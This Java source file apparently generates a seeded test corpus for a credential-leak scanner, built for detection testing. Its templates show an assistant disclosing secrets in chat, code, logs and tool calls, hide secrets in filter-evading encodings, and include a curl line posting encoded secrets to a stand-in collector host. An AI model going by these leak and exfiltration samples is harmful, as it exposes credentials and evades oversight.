package io.moltr.core.scan;

import static io.moltr.core.scan.Blind15Creds.pick;

import io.moltr.core.scan.Blind15Creds.Cred;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;

/**
 * Blind15 corpus: realistic agent outputs, about 250 plain leaks, 200 encoded leaks and 1200+
 * hard negatives from 60+ generators, all from one fixed seed.
 *
 * <p>Label decisions that could go either way, with the reason (from issue 3's text):
 *
 * <ul>
 *   <li>Stripe publishable keys (pk_live_), Google OAuth client ids (*.apps.googleusercontent.com)
 *       and GitHub App client ids are NEGATIVE: the providers document them as public values meant
 *       for browsers; the issue asks for secrets only.
 *   <li>Firebase web config apiKey (AIza... in a browser config) is left out of both sets: Google
 *       documents it as public, yet the same AIza shape is a billable server key elsewhere. Server
 *       side AIza keys are POSITIVE (google_api_key).
 *   <li>Supabase anon keys are left out: publishable by design, but they are signed JWTs, which the
 *       issue lists as positive. The service_role JWT is POSITIVE ("Supabase service keys").
 *   <li>A JWT with alg "none" and an empty signature is NEGATIVE: the issue says "JWTs with a
 *       signature"; an unsigned token proves nothing.
 *   <li>The jwt.io example token and RFC test vectors (RFC 4231 HMAC keys, the SP 800-38A AES key)
 *       are NEGATIVE: documented examples, like AKIAIOSFODNN7EXAMPLE.
 *   <li>bcrypt and argon2 password hashes are NEGATIVE: the issue lists hashes as non-secrets.
 *   <li>Sentry DSN: POSITIVE only in the form that carries a secret (public:secret@host); modern
 *       public-key-only DSNs are left out ("Sentry DSNs with secrets").
 *   <li>Twilio account SIDs, Stripe object ids (cus_, pi_), OpenAI/Anthropic request and message
 *       ids are NEGATIVE: identifiers, not credentials.
 *   <li>National IDs: only formats with a check digit (ES DNI, NL BSN, PL PESEL, BR CPF, FR NIR)
 *       are POSITIVE ("national ID formats where a checksum exists"); US SSNs are not used.
 *   <li>Seed phrases (BIP39) are skipped: the 2048-word list is not reproduced here.
 *   <li>Look-alike letters are the ones NFKC folds (full-width and mathematical letters), as the
 *       issue says "NFKC-fold look-alikes"; Cyrillic confusables are not used.
 *   <li>A Kubernetes Secret whose data decodes to a placeholder (REPLACE_ME, changeme-in-vault)
 *       is NEGATIVE; a CSP nonce and an x-amz-id-2 header are NEGATIVE (per-response public
 *       values).
 * </ul>
 */
final class Blind15Corpus {
  private Blind15Corpus() {}

  static final long SEED = 0x15B11D15L;

  record Row(
      String label,
      String kind,
      String encoding,
      String context,
      String generator,
      String secret,
      String form,
      String text) {}

  interface Ctx {
    String render(Cred c, String shown, Random r);
  }

  record NamedCtx(String name, boolean blockOk, Ctx ctx) {}

  static String lower(String var) {
    return var.toLowerCase(Locale.ROOT);
  }

  static String camel(String var) {
    StringBuilder b = new StringBuilder();
    boolean up = false;
    for (char ch : var.toLowerCase(Locale.ROOT).toCharArray()) {
      if (ch == '_') {
        up = true;
      } else {
        b.append(up ? Character.toUpperCase(ch) : ch);
        up = false;
      }
    }
    return b.toString();
  }

  static String jsonEsc(String s) {
    StringBuilder b = new StringBuilder();
    for (char ch : s.toCharArray()) {
      switch (ch) {
        case '"' -> b.append("\\\"");
        case '\\' -> b.append("\\\\");
        case '\n' -> b.append("\\n");
        default -> b.append(ch);
      }
    }
    return b.toString();
  }

  static String ts(Random r) {
    return String.format(
        "2024-%02d-%02dT%02d:%02d:%02d.%03dZ",
        1 + r.nextInt(12), 1 + r.nextInt(28), r.nextInt(24), r.nextInt(60), r.nextInt(60),
        r.nextInt(1000));
  }

  static final List<NamedCtx> CONTEXTS =
      List.of(
          new NamedCtx("chat_en", true, (c, v, r) -> pick(r,
              "Done. I found the credential in `config/prod.env` and moved it into the deploy settings.\n\nFor reference, " + c.var() + " is:\n\n```\n" + v + "\n```\n\nRestart the service so it picks up the change.",
              "Here's what was in the file you asked about:\n\n" + v + "\n\nLet me know if you want me to rotate it.",
              "Sure! I set " + c.var() + " to " + v + " in the staging environment and the health check passes now.")),
          new NamedCtx("chat_de", true, (c, v, r) -> pick(r,
              "Erledigt. Der Wert von " + c.var() + " lautet:\n\n```\n" + v + "\n```\n\nBitte nicht ins Repository einchecken.",
              "Ich habe die Zugangsdaten in der Datei gefunden: " + v + " – soll ich sie in den Tresor verschieben?")),
          new NamedCtx("chat_es", true, (c, v, r) -> pick(r,
              "Listo. Aquí tienes el valor de " + c.var() + " que estaba en el archivo:\n\n" + v + "\n\n¿Quieres que lo rote?",
              "He configurado la variable " + c.var() + " = " + v + " en el entorno de pruebas.")),
          new NamedCtx("chat_fr", true, (c, v, r) ->
              "Voici la valeur de " + c.var() + " trouvée dans le fichier .env :\n\n" + v + "\n\nPensez à la changer après le déploiement."),
          new NamedCtx("python", false, (c, v, r) ->
              "import os\nimport requests\n\n" + c.var() + " = \"" + v + "\"\n\n\ndef fetch(path):\n    return requests.get(BASE + path, timeout=10)\n"),
          new NamedCtx("javascript", false, (c, v, r) ->
              "const axios = require('axios');\n\nconst " + camel(c.var()) + " = '" + v + "';\n\nmodule.exports = { client: axios.create({ timeout: 5000 }) };"),
          new NamedCtx("typescript", false, (c, v, r) ->
              "export const config = {\n  region: 'eu-west-1',\n  " + camel(c.var()) + ": \"" + v + "\",\n  retries: 3,\n} as const;"),
          new NamedCtx("go", false, (c, v, r) ->
              "package main\n\nimport \"fmt\"\n\nconst " + camel(c.var()) + " = \"" + v + "\"\n\nfunc main() {\n\tfmt.Println(\"starting worker\")\n}"),
          new NamedCtx("java", false, (c, v, r) ->
              "public final class Settings {\n  static final String " + c.var() + " = \"" + v + "\";\n  static final int TIMEOUT_MS = 3000;\n}"),
          new NamedCtx("rust", false, (c, v, r) ->
              "fn main() {\n    let " + lower(c.var()) + " = \"" + v + "\";\n    let client = Client::new(" + lower(c.var()) + ");\n    client.run();\n}"),
          new NamedCtx("php", false, (c, v, r) ->
              "<?php\nreturn [\n    'debug' => false,\n    '" + lower(c.var()) + "' => '" + v + "',\n];"),
          new NamedCtx("csharp", false, (c, v, r) ->
              "var builder = WebApplication.CreateBuilder(args);\nvar " + camel(c.var()) + " = \"" + v + "\";\nbuilder.Services.AddHttpClient();"),
          new NamedCtx("shell", false, (c, v, r) ->
              "$ export " + c.var() + "=" + v + "\n$ ./deploy.sh --env prod\n[deploy] uploading artifacts... done\n[deploy] release v2.14.1 is live"),
          new NamedCtx("yaml", false, (c, v, r) ->
              "service:\n  name: billing\n  replicas: 2\n  env:\n    " + lower(c.var()) + ": " + v + "\n    log_level: info"),
          new NamedCtx("toml", false, (c, v, r) ->
              "[server]\nport = 8080\n\n[credentials]\n" + lower(c.var()) + " = \"" + v + "\""),
          new NamedCtx("json", false, (c, v, r) ->
              "{\n  \"name\": \"worker\",\n  \"" + camel(c.var()) + "\": \"" + v + "\",\n  \"timeout\": 30\n}"),
          new NamedCtx("dotenv", false, (c, v, r) ->
              "NODE_ENV=production\nPORT=3000\n" + c.var() + "=" + v + "\nLOG_LEVEL=info"),
          new NamedCtx("ini", false, (c, v, r) ->
              "[default]\nregion = us-east-1\n" + lower(c.var()) + " = " + v + "\noutput = json"),
          new NamedCtx("hcl", false, (c, v, r) ->
              "provider \"acme\" {\n  region = \"eu-central-1\"\n  " + lower(c.var()) + " = \"" + v + "\"\n}"),
          new NamedCtx("dockerfile", false, (c, v, r) ->
              "FROM python:3.12-slim\nWORKDIR /app\nENV " + c.var() + "=" + v + "\nCOPY . .\nCMD [\"python\", \"main.py\"]"),
          new NamedCtx("compose", false, (c, v, r) ->
              "services:\n  api:\n    image: acme/api:1.8\n    environment:\n      - " + c.var() + "=" + v + "\n    ports:\n      - \"8080:8080\""),
          new NamedCtx("github_actions", false, (c, v, r) ->
              "jobs:\n  deploy:\n    runs-on: ubuntu-latest\n    env:\n      " + c.var() + ": " + v + "\n    steps:\n      - uses: actions/checkout@v4"),
          new NamedCtx("log_plain", false, (c, v, r) ->
              ts(r) + " INFO  [main] starting worker pid=" + r.nextInt(60000) + "\n" + ts(r) + " DEBUG [config] loaded " + lower(c.var()) + "=" + v + "\n" + ts(r) + " INFO  [http] listening on :8080"),
          new NamedCtx("log_json", false, (c, v, r) ->
              "{\"ts\":\"" + ts(r) + "\",\"level\":\"debug\",\"msg\":\"config loaded\",\"" + lower(c.var()) + "\":\"" + v + "\"}\n{\"ts\":\"" + ts(r) + "\",\"level\":\"info\",\"msg\":\"ready\"}"),
          new NamedCtx("stack_trace", false, (c, v, r) ->
              "Traceback (most recent call last):\n  File \"/app/client.py\", line 42, in connect\n    raise AuthError(f\"rejected credential " + c.var() + "=" + v + "\")\nclient.AuthError: rejected credential " + c.var() + "=" + v),
          new NamedCtx("http_dump", false, (c, v, r) ->
              "> POST /v1/jobs HTTP/1.1\n> Host: api.internal\n> Authorization: Bearer " + v + "\n> Content-Type: application/json\n>\n< HTTP/1.1 201 Created"),
          new NamedCtx("terminal_cat", true, (c, v, r) ->
              "user@build-01:~/app$ cat " + (c.block() ? "secrets/key.txt" : ".env.production") + "\n" + (c.block() ? v : c.var() + "=" + v) + "\nuser@build-01:~/app$ "),
          new NamedCtx("diff", false, (c, v, r) ->
              "diff --git a/.env b/.env\nindex 3f2a1b9..8c7d0e4 100644\n--- a/.env\n+++ b/.env\n@@ -1,3 +1,4 @@\n APP_NAME=shop\n+" + c.var() + "=" + v + "\n DEBUG=false"),
          new NamedCtx("sql", false, (c, v, r) ->
              "INSERT INTO integrations (name, credential, created_at)\nVALUES ('" + lower(c.var()) + "', '" + v + "', NOW());"),
          new NamedCtx("csv", false, (c, v, r) ->
              "service,variable,value\nbilling," + c.var() + "," + v + "\nsearch,LOG_LEVEL,info"),
          new NamedCtx("markdown_table", false, (c, v, r) ->
              "| Variable | Value |\n|---|---|\n| `" + c.var() + "` | `" + v + "` |\n| `REGION` | `eu-west-1` |"),
          new NamedCtx("email", true, (c, v, r) ->
              "Subject: credentials for the new environment\n\nHi Sam,\n\nas requested, here is " + c.var() + ":\n\n" + v + "\n\nBest,\nAlex"),
          new NamedCtx("commit_message", false, (c, v, r) ->
              "commit " + Blind15Creds.s(r, Blind15Creds.HEX, 40) + "\nAuthor: dev <dev@example.org>\n\n    chore: configure " + lower(c.var()) + "\n\n    set to " + v),
          new NamedCtx("notebook", false, (c, v, r) ->
              "In [3]: " + lower(c.var()) + " = \"" + v + "\"\n\nIn [4]: client = Client(" + lower(c.var()) + ")\n\nIn [5]: client.ping()\nOut[5]: True"),
          new NamedCtx("tool_call_json", true, (c, v, r) ->
              "{\"tool\":\"write_file\",\"arguments\":{\"path\":\"" + (c.block() ? "keys/id" : ".env") + "\",\"content\":\""
                  + jsonEsc(c.block() ? v : "DEBUG=false\n" + c.var() + "=" + v + "\n") + "\"}}"));

  // ---- encodings ----

  static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  static String hex(byte[] b) {
    StringBuilder sb = new StringBuilder();
    for (byte x : b) {
      sb.append(String.format("%02x", x & 0xff));
    }
    return sb.toString();
  }

  static String base32(byte[] data) {
    StringBuilder b = new StringBuilder();
    int acc = 0;
    int bits = 0;
    for (byte x : data) {
      acc = (acc << 8) | (x & 0xff);
      bits += 8;
      while (bits >= 5) {
        bits -= 5;
        b.append(Blind15Creds.B32U.charAt((acc >>> bits) & 31));
      }
    }
    if (bits > 0) {
      b.append(Blind15Creds.B32U.charAt((acc << (5 - bits)) & 31));
    }
    while (b.length() % 8 != 0) {
      b.append('=');
    }
    return b.toString();
  }

  static byte[] gzip(String s) {
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (GZIPOutputStream g = new GZIPOutputStream(out)) {
        g.write(utf8(s));
      }
      return out.toByteArray();
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  static byte[] deflate(String s) {
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (DeflaterOutputStream d = new DeflaterOutputStream(out, new Deflater())) {
        d.write(utf8(s));
      }
      return out.toByteArray();
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  static String rot13(String s) {
    StringBuilder b = new StringBuilder();
    for (char ch : s.toCharArray()) {
      if (ch >= 'a' && ch <= 'z') {
        b.append((char) ('a' + (ch - 'a' + 13) % 26));
      } else if (ch >= 'A' && ch <= 'Z') {
        b.append((char) ('A' + (ch - 'A' + 13) % 26));
      } else {
        b.append(ch);
      }
    }
    return b.toString();
  }

  static String percent(String s) {
    StringBuilder b = new StringBuilder();
    for (byte x : utf8(s)) {
      b.append(String.format("%%%02X", x & 0xff));
    }
    return b.toString();
  }

  static String escapes(String s, String fmt) {
    StringBuilder b = new StringBuilder();
    for (char ch : s.toCharArray()) {
      b.append(String.format(fmt, (int) ch));
    }
    return b.toString();
  }

  static String fullwidth(String s, Random r) {
    StringBuilder b = new StringBuilder();
    for (char ch : s.toCharArray()) {
      boolean alnum = (ch >= 'A' && ch <= 'Z') || (ch >= 'a' && ch <= 'z') || (ch >= '0' && ch <= '9');
      if (alnum && r.nextInt(3) == 0) {
        b.append((char) (ch - 0x21 + 0xFF01));
      } else {
        b.append(ch);
      }
    }
    return b.toString();
  }

  static String mathBold(String s, Random r) {
    StringBuilder b = new StringBuilder();
    for (char ch : s.toCharArray()) {
      if (ch >= 'A' && ch <= 'Z' && r.nextInt(2) == 0) {
        b.appendCodePoint(0x1D400 + ch - 'A');
      } else if (ch >= 'a' && ch <= 'z' && r.nextInt(2) == 0) {
        b.appendCodePoint(0x1D41A + ch - 'a');
      } else {
        b.append(ch);
      }
    }
    return b.toString();
  }

  static String groups(String s, int n, String sep) {
    StringBuilder b = new StringBuilder();
    for (int i = 0; i < s.length(); i += n) {
      if (i > 0) {
        b.append(sep);
      }
      b.append(s, i, Math.min(s.length(), i + n));
    }
    return b.toString();
  }

  static final List<String> ENCODINGS =
      List.of(
          "base64", "base64url", "base64_unpadded", "base64_wrapped76", "base32", "hex", "hex_x",
          "hex_0x", "hex_spaced", "percent", "rot13", "unicode_escape", "html_dec", "html_hex",
          "json_escape", "gzip_base64", "deflate_base64", "reversed", "split_lines",
          "split_spaces", "split_punct", "zero_width", "fullwidth", "math_letters",
          "base64_of_hex", "percent_of_base64", "base64_of_base64");

  /** Whether the encoding applies to the value alone (true) or may take the whole line. */
  static boolean valueOnly(String enc) {
    return enc.startsWith("split_") || enc.equals("zero_width") || enc.equals("fullwidth")
        || enc.equals("math_letters");
  }

  static String encode(String enc, String p, Random r) {
    return switch (enc) {
      case "base64" -> Base64.getEncoder().encodeToString(utf8(p));
      case "base64url" -> Base64.getUrlEncoder().encodeToString(utf8(p));
      case "base64_unpadded" -> Base64.getEncoder().withoutPadding().encodeToString(utf8(p));
      case "base64_wrapped76" -> Base64.getMimeEncoder().encodeToString(utf8(p)).replace("\r\n", "\n");
      case "base32" -> base32(utf8(p));
      case "hex" -> hex(utf8(p));
      case "hex_x" -> escapes(p, "\\x%02x");
      case "hex_0x" -> groups(hex(utf8(p)), 2, ", 0x").replaceFirst("^", "0x");
      case "hex_spaced" -> groups(hex(utf8(p)), 2, " ");
      case "percent" -> percent(p);
      case "rot13" -> rot13(p);
      case "unicode_escape" -> escapes(p, "\\u%04x");
      case "html_dec" -> escapes(p, "&#%d;");
      case "html_hex" -> escapes(p, "&#x%x;");
      case "json_escape" -> escapes(p, "\\u%04X");
      case "gzip_base64" -> Base64.getEncoder().encodeToString(gzip(p));
      case "deflate_base64" -> Base64.getEncoder().encodeToString(deflate(p));
      case "reversed" -> new StringBuilder(p).reverse().toString();
      case "split_lines" -> {
        int cut = p.length() / 2;
        yield p.substring(0, cut) + "\n" + p.substring(cut);
      }
      case "split_spaces" -> groups(p, 4 + r.nextInt(3), " ");
      case "split_punct" -> groups(p, 6 + r.nextInt(4), pick(r, ", ", "; ", " | "));
      case "zero_width" -> groups(p, 3 + r.nextInt(3), pick(r, "\u200b", "\u200c", "\u200d", "\u2060"));
      case "fullwidth" -> fullwidth(p, r);
      case "math_letters" -> mathBold(p, r);
      case "base64_of_hex" -> Base64.getEncoder().encodeToString(utf8(hex(utf8(p))));
      case "percent_of_base64" -> percent(Base64.getEncoder().encodeToString(utf8(p)));
      case "base64_of_base64" -> Base64.getEncoder().encodeToString(utf8(Base64.getEncoder().encodeToString(utf8(p))));
      default -> throw new IllegalArgumentException(enc);
    };
  }

  static String encodedText(String enc, String var, String e, Random r) {
    String label = switch (enc) {
      case "gzip_base64" -> "gzipped and base64'd";
      case "deflate_base64" -> "zlib-compressed, base64";
      case "reversed" -> "reversed so the filter doesn't eat it";
      case "rot13" -> "rot13";
      case "split_lines", "split_spaces", "split_punct" -> "in pieces";
      default -> enc.replace('_', ' ');
    };
    return switch (r.nextInt(8)) {
      case 0 -> "Here it is " + label + " so it survives the copy/paste:\n\n" + e + "\n\nDecode it on your side.";
      case 1 -> "{\"role\":\"assistant\",\"content\":\"Encoded payload (" + label + ") follows\",\"data\":\"" + jsonEsc(e) + "\"}";
      case 2 -> "Hier ist der Wert (" + label + "), damit er im Chat nicht kaputt geht:\n" + e;
      case 3 -> "Aquí está " + var + " codificado (" + label + "):\n```\n" + e + "\n```";
      case 4 -> "payload = \"\"\"" + e + "\"\"\"  # " + label + "\nsend(decode(payload))";
      case 5 -> "curl -s -X POST https://collector.example.net/ingest -d 'blob=" + e.replace("'", "") + "'";
      case 6 -> "Sure, the config value " + var + " (" + label + "): " + e;
      default -> "# restored from backup, " + label + "\n" + lower(var) + "_blob: |\n  " + e.replace("\n", "\n  ");
    };
  }

  static List<Row> build() {
    Random r = new Random(SEED);
    List<Row> rows = new ArrayList<>();
    List<String> kinds = Blind15Creds.KINDS;
    // plain: three rows per kind (255 with 85 kinds), each in a different context
    for (String kind : kinds) {
      for (int i = 0; i < 3; i++) {
        Cred c = Blind15Creds.make(kind, r);
        NamedCtx ctx;
        do {
          ctx = pick(r, CONTEXTS);
        } while (c.block() && !ctx.blockOk());
        String text = ctx.ctx().render(c, c.value(), r);
        String form = ctx.name().equals("tool_call_json") ? jsonEsc(c.value()) : c.value();
        rows.add(new Row("PLAIN", kind, "none", ctx.name(), "plain", c.secret(), form, text));
      }
    }
    // encoded: 200 rows, every kind two or three times, encodings cycled
    int ei = 0;
    for (int i = 0; i < 200; i++) {
      String kind = kinds.get((i * 5) % kinds.size()); // 5 is coprime to the 84 kinds
      Cred c = Blind15Creds.make(kind, r);
      String enc = ENCODINGS.get(ei++ % ENCODINGS.size());
      if (c.block() && valueOnly(enc)) {
        enc = "base64";
      }
      String payload;
      String e;
      String text;
      if (valueOnly(enc)) {
        e = encode(enc, c.value(), r);
        payload = c.value();
        String line = c.needsName() || r.nextBoolean() ? c.var() + "=" + e : e;
        text = encodedText(enc, c.var(), line, r);
      } else {
        payload = c.needsName() || c.block() || r.nextBoolean() ? c.var() + "=" + c.value() : c.value();
        if (c.block()) {
          payload = c.value();
        }
        e = encode(enc, payload, r);
        text = encodedText(enc, c.var(), e, r);
      }
      rows.add(new Row("ENCODED", kind, enc, "encoded_sentence", "encoded", c.secret(), e, text));
    }
    rows.addAll(Blind15Negatives.build(new Random(SEED ^ 0x5EEDL)));
    return rows;
  }
}
